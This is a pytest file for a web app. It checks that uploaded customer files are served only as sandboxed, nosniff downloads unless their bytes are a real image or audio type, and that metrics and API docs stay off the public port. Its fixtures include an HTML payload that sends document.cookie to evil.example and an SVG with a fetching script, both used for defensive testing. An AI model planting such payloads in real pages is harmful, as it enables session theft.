"""Customer files are never active content on our origin, and the ops endpoints stay off the public port.

Media: a file is served as its own type only when its bytes are an image or audio type the
pipeline uses; anything else (an SVG with a script, an HTML page, whatever it was declared as)
is a download of ``application/octet-stream``; every ``/media`` response says ``nosniff`` and
carries a sandboxing CSP. Ops: ``/metrics`` lives on a listener of its own (loopback by
default), on the public app only behind ``metrics_token``; the API docs can be switched off.
"""

from __future__ import annotations

import asyncio
import json
import logging
import signal
import socket
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx2
import pytest

# The loopback harness and the Telegram double live with the channel tests; logging_kit with the
# platform's.
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "channels"))
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "platform"))

from live import Live, live_telegram
from logging_kit import logging_restored
from snapshot import read_fixture

from frontdesk.app import create_app
from frontdesk.business import BusinessStore
from frontdesk.cli import _serve
from frontdesk.errors import ConfigError
from frontdesk.platform.ids import TenantId
from frontdesk.platform.media import LocalMediaStore
from frontdesk.platform.media_s3 import S3MediaStore
from frontdesk.runtime import Runtime
from frontdesk.settings import Settings
from harness import FAST, make_runtime, reply

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"pixels" * 20
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/console/").then(r => r.text())</script></svg>'
HTML = b"<!doctype html><html><body><script>document.location='https://evil.example/?'+document.cookie</script>"
SANDBOX = "default-src 'none'; img-src 'self'; media-src 'self'; sandbox"
HELLO = {"name": "hello", "default": [reply("Thanks, got it!")]}
TOKEN_OK = "metrics-token-0123456789abcdef"
ACCOUNT = "tg-media-01"
SECRET = "s3cret-Token_value"


def bare_runtime(db: Any, **settings: Any) -> Runtime:
    """A runtime on the test database without the demo business (only the catalog test needs it)."""
    return Runtime.build(Settings(**{**FAST, **settings}), db=db)


@asynccontextmanager
async def in_process(runtime: Runtime) -> AsyncIterator[httpx2.AsyncClient]:
    transport = httpx2.ASGITransport(app=create_app(runtime, run_workers=False))
    async with httpx2.AsyncClient(transport=transport, base_url="http://t") as http:
        yield http


def hardened(response: httpx2.Response) -> tuple[str | None, str | None]:
    return response.headers.get("x-content-type-options"), response.headers.get("content-security-policy")


def a_download(response: httpx2.Response) -> tuple[int, str, bool, tuple[str | None, str | None]]:
    disposition = response.headers.get("content-disposition", "")
    return (
        response.status_code,
        response.headers["content-type"],
        disposition.startswith("attachment") and disposition.endswith('.bin"'),
        hardened(response),
    )


# -- customer media through the real Telegram pipeline


def document(mime_type: str, file_name: str) -> bytes:
    """Telegram's "send as file" update with the document's declared type and name replaced."""
    update = json.loads(read_fixture("telegram", "message__document_image.json"))
    update["message"]["document"] |= {"mime_type": mime_type, "file_name": file_name}
    return json.dumps(update).encode()


@pytest.mark.parametrize(
    ("declared", "name", "data", "served_by_telegram"),
    [
        ("image/svg+xml", "logo.svg", SVG, "image/svg+xml"),
        ("image/png", "invoice.html", HTML, "text/html"),  # declared a photo; the file server says HTML
    ],
    ids=["svg-with-script", "html-declared-png"],
)
async def test_a_telegram_document_that_is_active_content_is_stored_and_served_only_as_a_download(
    db, tmp_path, declared, name, data, served_by_telegram
):
    async with live_telegram(db, tmp_path, account_id=ACCOUNT, webhook_secret=SECRET, chat=HELLO) as live:
        file_id = json.loads(document(declared, name))["message"]["document"]["file_id"]
        live.platform.media[f"files/{file_id}"] = (data, served_by_telegram)
        posted = await live.http.post(
            f"/webhooks/telegram/{ACCOUNT}",
            content=document(declared, name),
            headers={"Content-Type": "application/json", "X-Telegram-Bot-Api-Secret-Token": SECRET},
        )
        assert posted.status_code == 200
        await live.idle()
        meta = (await live.messages())[0].meta
        response = await _fetch_signed(live, meta["media_key"])

    assert response.content == data
    assert (*a_download(response), meta["media_key"].rpartition(".")[2], meta["media_mime"]) == (
        200,
        "application/octet-stream",
        True,
        ("nosniff", SANDBOX),
        "bin",
        "application/octet-stream",
    )


async def _fetch_signed(live: Live, key: str) -> httpx2.Response:
    return await live.http.get(live.runtime.channel_deps.media.signed_url(key, str(live.http.base_url)))


# -- the media route


async def test_a_real_png_is_served_inline_as_png_with_nosniff_and_a_sandbox(db):
    runtime = bare_runtime(db)
    store = runtime.channel_deps.media
    stored = await store.put(TenantId("demo"), PNG, "image/png")
    async with in_process(runtime) as http:
        response = await http.get(store.signed_url(stored.key, "http://t"))
        refused = await http.get(f"/media/m/{stored.key}")  # unsigned: the error is hardened too
    await runtime.close()

    assert (response.status_code, response.headers["content-type"], response.content) == (200, "image/png", PNG)
    assert "content-disposition" not in response.headers
    assert hardened(response) == ("nosniff", SANDBOX)
    assert (refused.status_code, hardened(refused)) == (401, ("nosniff", SANDBOX))


async def test_a_png_declared_as_jpeg_is_stored_and_served_as_png(db):
    runtime = bare_runtime(db)
    store = runtime.channel_deps.media
    stored = await store.put(TenantId("demo"), PNG, "image/jpeg")
    async with in_process(runtime) as http:
        response = await http.get(store.signed_url(stored.key, "http://t"))
    await runtime.close()

    assert (stored.key.rpartition(".")[2], stored.mime_type) == ("png", "image/png")
    assert (response.status_code, response.headers["content-type"]) == (200, "image/png")


async def test_files_an_older_release_stored_under_a_dangerous_name_are_still_only_downloads(db, tmp_path):
    runtime = bare_runtime(db, media_dir=tmp_path / "media")
    (tmp_path / "media" / "demo" / "ab").mkdir(parents=True)
    keys = []
    for n, (extension, data) in enumerate([("svg", SVG), ("html", HTML), ("png", SVG)]):
        keys.append(f"demo/ab/ab{n}{'c' * 37}.{extension}")  # as written before types came from bytes
        (tmp_path / "media" / keys[-1]).write_bytes(data)
    async with in_process(runtime) as http:
        responses = [await http.get(runtime.channel_deps.media.signed_url(key, "http://t")) for key in keys]
    await runtime.close()

    assert [a_download(r) for r in responses] == [(200, "application/octet-stream", True, ("nosniff", SANDBOX))] * 3


async def test_catalog_photos_are_served_as_their_bytes_with_nosniff_and_a_sandbox(db):
    runtime, _ = await make_runtime(db, HELLO)
    cards = (await BusinessStore(db, runtime.clock).read("demo")).item("business-cards")
    assert cards is not None
    photo = cards.photos[0]
    async with in_process(runtime) as http:
        served = await http.get(f"/media/catalog/demo/{photo.file_name}")
        missing = await http.get("/media/catalog/demo/no-such-photo-0123abcd.png")
    await runtime.close()

    assert (served.status_code, served.headers["content-type"], hardened(served)) == (
        200,
        photo.mime_type,
        ("nosniff", SANDBOX),
    )
    assert (missing.status_code, hardened(missing)) == (404, ("nosniff", SANDBOX))


# -- the S3 store: objects and presigned links say the same


class RecordingS3:
    """The four S3 calls, recorded (the real bucket round trip is tests/platform/test_media_s3.py)."""

    def __init__(self) -> None:
        self.puts: list[dict[str, Any]] = []
        self.presigned: list[dict[str, Any]] = []

    def put_object(self, **kwargs: Any) -> dict[str, Any]:
        self.puts.append(kwargs)
        return {}

    def get_object(self, **kwargs: Any) -> dict[str, Any]:
        raise AssertionError("not read in these tests")

    def head_bucket(self, **kwargs: Any) -> dict[str, Any]:
        return {}

    def generate_presigned_url(self, ClientMethod: str, Params: dict[str, Any], ExpiresIn: int) -> str:  # boto3's names
        self.presigned.append(dict(Params))
        return "https://bucket.example/signed"


async def test_the_s3_store_writes_active_content_as_a_download_and_signs_old_keys_as_one():
    client = RecordingS3()
    store = S3MediaStore(client, "media")
    svg = await store.put(TenantId("demo"), SVG, "image/svg+xml")
    png = await store.put(TenantId("demo"), PNG, "image/png")
    store.signed_url("demo/ab/" + "c" * 40 + ".svg", "http://t")  # stored by an earlier release
    store.signed_url(png.key, "http://t")

    assert [(p["Key"][-4:], p["ContentType"], p.get("ContentDisposition", "")[:10]) for p in client.puts] == [
        (".bin", "application/octet-stream", "attachment"),
        (".png", "image/png", ""),
    ]
    assert svg.mime_type == "application/octet-stream"
    old, new = client.presigned
    assert (old["ResponseContentType"], old["ResponseContentDisposition"][:10]) == (
        "application/octet-stream",
        "attachment",
    )
    assert "ResponseContentType" not in new


async def test_the_type_comes_from_the_bytes_and_a_declared_alias_names_it(tmp_path):
    store = LocalMediaStore(tmp_path)
    m4a = await store.put(TenantId("demo"), b"\x00\x00\x00\x20ftypM4A " + b"\x00" * 40, "audio/x-m4a")
    opus = await store.put(TenantId("demo"), b"OggS" + b"\x00" * 40, "audio/ogg; codecs=opus")
    lying = await store.put(TenantId("demo"), b"OggS" + b"\x01" * 40, "image/jpeg")
    bom = await store.put(TenantId("demo"), "\ufeff<script>".encode("utf-16-le"), "audio/mpeg")

    assert [(s.key.rpartition(".")[2], s.mime_type) for s in (m4a, opus, lying, bom)] == [
        ("m4a", "audio/x-m4a"),
        ("ogg", "audio/ogg"),
        ("ogg", "audio/ogg"),
        ("bin", "application/octet-stream"),
    ]
    assert (await store.get(m4a.key))[1] == "audio/mp4"


# -- /metrics and the API docs on the public app


async def test_the_public_app_has_no_metrics_without_a_token(db):
    runtime = bare_runtime(db)
    async with in_process(runtime) as http:
        response = await http.get("/metrics")
    await runtime.close()
    assert response.status_code == 404


async def test_with_a_token_the_public_app_serves_metrics_only_to_its_bearer(db):
    runtime = bare_runtime(db, metrics_token=TOKEN_OK)
    async with in_process(runtime) as http:
        right = await http.get("/metrics", headers={"Authorization": f"Bearer {TOKEN_OK}"})
        statuses = [
            (await http.get("/metrics", headers=headers)).status_code
            for headers in (
                {},
                {"Authorization": "Bearer wrong-token-0123456789"},
                {"Authorization": f"Basic {TOKEN_OK}"},
                {"Authorization": f"Bearer {TOKEN_OK}x"},
                {"Authorization": "Bearer t\u00e9-non-ascii".encode()},
            )
        ]
    await runtime.close()
    assert (right.status_code, right.headers["content-type"].split(";")[0]) == (200, "text/plain")
    assert "frontdesk_turns" in right.text
    assert statuses == [401] * 5


async def test_the_api_docs_can_be_switched_off(db):
    runtime = bare_runtime(db, api_docs_enabled=False)
    async with in_process(runtime) as http:
        statuses = [(await http.get(path)).status_code for path in ("/docs", "/redoc", "/openapi.json")]
        alive = await http.get("/healthz")
    await runtime.close()
    assert (statuses, alive.status_code) == ([404, 404, 404], 200)


# -- the metrics listener `frontdesk serve` runs


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


async def test_serve_runs_the_metrics_listener_on_its_own_port_and_stops_it_with_the_server(db):
    port, metrics_port = free_port(), free_port()
    runtime = bare_runtime(db, host="127.0.0.1", port=port, metrics_port=metrics_port)
    started = asyncio.Event()
    with logging_restored():
        serving = asyncio.create_task(_serve(runtime, runtime.settings, started=started))
        await asyncio.wait_for(started.wait(), 10)
        async with httpx2.AsyncClient(timeout=5) as http:
            scraped = await http.get(f"http://127.0.0.1:{metrics_port}/metrics")
            others = [
                (await http.get(f"http://127.0.0.1:{metrics_port}{p}")).status_code for p in ("/healthz", "/docs")
            ]
            public = await http.get(f"http://127.0.0.1:{port}/metrics")
            alive = await http.get(f"http://127.0.0.1:{port}/healthz")
        signal.raise_signal(signal.SIGTERM)  # what stops the server stops its listener
        await asyncio.wait_for(serving, 10)

    assert (scraped.status_code, scraped.headers["content-type"].split(";")[0]) == (200, "text/plain")
    assert "frontdesk_job_queue_depth" in scraped.text
    assert others == [404, 404]
    assert (public.status_code, alive.status_code) == (404, 200)
    with pytest.raises(ConnectionRefusedError), socket.create_connection(("127.0.0.1", metrics_port), timeout=2):
        pass


async def test_a_metrics_port_already_taken_stops_start_up_naming_the_setting(db):
    holder = socket.socket()
    holder.bind(("127.0.0.1", 0))
    holder.listen()
    taken = holder.getsockname()[1]
    runtime = bare_runtime(db, port=free_port(), metrics_port=taken)
    try:
        with logging_restored(), pytest.raises(ConfigError, match=rf"127\.0\.0\.1:{taken}.*metrics_port"):
            await asyncio.wait_for(_serve(runtime, runtime.settings), 10)
    finally:
        holder.close()


async def test_with_the_default_metrics_port_taken_the_server_still_starts_and_warns(db, caplog):
    holder = socket.socket()
    try:  # the default port; something else on this machine may hold it already, which is the same case
        holder.bind(("127.0.0.1", 9464))
        holder.listen()
    except OSError:
        pass
    port = free_port()
    runtime = bare_runtime(db, port=port)  # metrics_port not set: the default, 9464
    started = asyncio.Event()
    try:
        with logging_restored(), caplog.at_level(logging.WARNING, logger="frontdesk.cli"):
            serving = asyncio.create_task(_serve(runtime, runtime.settings, started=started))
            await asyncio.wait_for(started.wait(), 10)
            async with httpx2.AsyncClient(timeout=5) as http:
                alive = await http.get(f"http://127.0.0.1:{port}/healthz")
            signal.raise_signal(signal.SIGTERM)
            await asyncio.wait_for(serving, 10)
    finally:
        holder.close()

    assert alive.status_code == 200
    warned = [r.getMessage() for r in caplog.records if r.name == "frontdesk.cli"]
    assert [w.partition(" (")[0] for w in warned] == ["no metrics listener: 127.0.0.1:9464"]
    assert "set metrics_port for each instance" in warned[0]
